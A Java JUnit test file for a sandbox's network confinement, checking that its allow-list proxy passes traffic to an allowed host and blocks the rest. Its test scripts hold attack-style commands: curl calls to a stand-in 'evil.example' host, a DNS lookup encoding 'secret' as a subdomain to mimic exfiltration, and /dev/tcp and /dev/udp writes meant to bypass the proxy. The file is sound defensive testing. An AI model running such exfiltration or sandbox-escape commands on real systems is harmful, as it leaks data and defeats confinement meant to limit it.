package dev.cordon.sandbox;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.cordon.protocol.Confinement;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import javax.net.ssl.SSLContext;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Commands in a real network namespace with the proxy outside: what reaches a server and what does
/// not, judged by what the server got.
final class NetworkNamespaceTest {
    @TempDir Path folder;
    private Path workspace;
    private FakeUpstream server;
    private ProxyBench bench;
    private HelperBoundary boundary;

    @BeforeEach
    void open() throws Exception {
        folder = folder.toRealPath();
        workspace = Files.createDirectory(folder.resolve("workspace"));
        server = FakeUpstream.plain(_ -> FakeUpstream.ok("hello"));
        bench =
                new ProxyBench(
                                Files.createTempDirectory("cordon-test-net"),
                                NetworkSettings.DEFAULT,
                                SSLContext.getDefault(),
                                "good.example")
                        .host("good.example", "93.184.216.34", 80, server)
                        .host("evil.example", "93.184.216.35", 80, server);
        bench.ports.put("93.184.216.34:443", server.port());
        bench.ports.put("93.184.216.35:443", server.port());
        boundary =
                new HelperBoundary(
                        HelperBinary.extract(folder.resolve("state")).orElseThrow(),
                        folder.resolve("state"),
                        () -> bench.proxy);
    }

    @AfterEach
    void close() throws IOException {
        boundary.close();
        bench.close();
        server.close();
    }

    private Confinement confinement() {
        return new Confinement(
                Confinement.Mode.WORKSPACE_WRITE,
                workspace,
                List.of(workspace),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                Confinement.Network.PROXIED,
                Confinement.View.DIRECT,
                Map.of("PATH", "/usr/bin:/bin", "HOME", folder.resolve("home").toString()),
                Confinement.Limits.DEFAULT,
                Set.of());
    }

    private String run(String script) throws InterruptedException {
        return new BoundaryRun().run(boundary, confinement(), workspace, script, 30_000).output();
    }

    @Test
    void aProgramThatKnowsNoProxyIsCapturedByNameAndJudged() throws Exception {
        // The variables are taken away, so the name is looked up and port 80 is dialled.
        String bare = "env -u http_proxy -u HTTP_PROXY -u all_proxy -u ALL_PROXY ";

        assertEquals("hello", run(bare + "curl -sS http://good.example/a"));
        assertTrue(
                run(bare + "curl -sS -i http://evil.example/a")
                        .startsWith(
                                "HTTP/1.1 403 cordon: evil.example:80 is not on the allow list."));

        assertEquals(List.of("good.example:80 GET", "evil.example:80 GET"), bench.asked);
        assertEquals(1, server.requests().size());
        assertTrue(server.requests().getFirst().startsWith("GET /a HTTP/1.1"));
    }

    @Test
    void aProgramThatKnowsTheProxyUsesItAndNeedsNoName() throws Exception {
        assertEquals("hello", run("curl -sS http://good.example/b"));
        assertEquals(List.of("good.example"), bench.resolved);
        assertEquals(
                "hello", run("curl -sS --socks5-hostname 127.0.0.1:3128 http://good.example/"));
    }

    @Test
    void namesAreAnsweredInsideAndNoneIsAskedOutside() throws Exception {
        String names =
                run(
                        "getent hosts c2VjcmV0.evil.example;"
                                + " getent hosts c2VjcmV0.evil.example;"
                                + " getent hosts other.example;"
                                + " getent hosts a_b.example || echo none");

        List<String> lines = names.lines().toList();
        assertEquals(4, lines.size(), names);
        assertTrue(lines.get(0).startsWith("127.1.0.1 "), names);
        assertEquals(lines.get(0), lines.get(1));
        assertTrue(lines.get(2).startsWith("127.1.0.2 "), names);
        assertEquals("none", lines.get(3));
        assertEquals(List.of(), bench.resolved);
    }

    @Test
    void capturedTlsForAnotherNameIsCut() throws Exception {
        String script =
                "env -u https_proxy -u HTTPS_PROXY -u all_proxy -u ALL_PROXY curl -sS -k"
                        + " --connect-to good.example:443:evil.example:443 https://good.example/"
                        + " 2>&1 || true";
        run(script);

        assertEquals(List.of("evil.example:443 "), bench.asked);
        assertEquals(List.of(), server.requests());
    }

    @Test
    void ignoringTheProxyGainsNothing() throws Exception {
        FakeUpstream host = server;
        String direct =
                run(
                        "curl -sS -m 3 --noproxy '*' http://127.0.0.1:"
                                + host.port()
                                + "/ 2>&1; NO_PROXY='*' no_proxy='*' curl -sS -m 3"
                                + " http://93.184.216.34/ 2>&1; NO_PROXY='*' no_proxy='*' curl -sS"
                                + " -m 3 http://good.example:8080/ 2>&1; (echo x >"
                                + " /dev/udp/93.184.216.34/53) 2>&1; (echo x >"
                                + " /dev/tcp/93.184.216.34/25) 2>&1; true");

        assertEquals(List.of(), host.requests());
        assertTrue(direct.contains("refused") || direct.contains("unreachable"), direct);
    }

    @Test
    void whichCommandAskedIsKnownWhenOneRuns() throws Exception {
        run("curl -sS http://good.example/");

        assertEquals(List.of(1), bench.processes);
    }
}
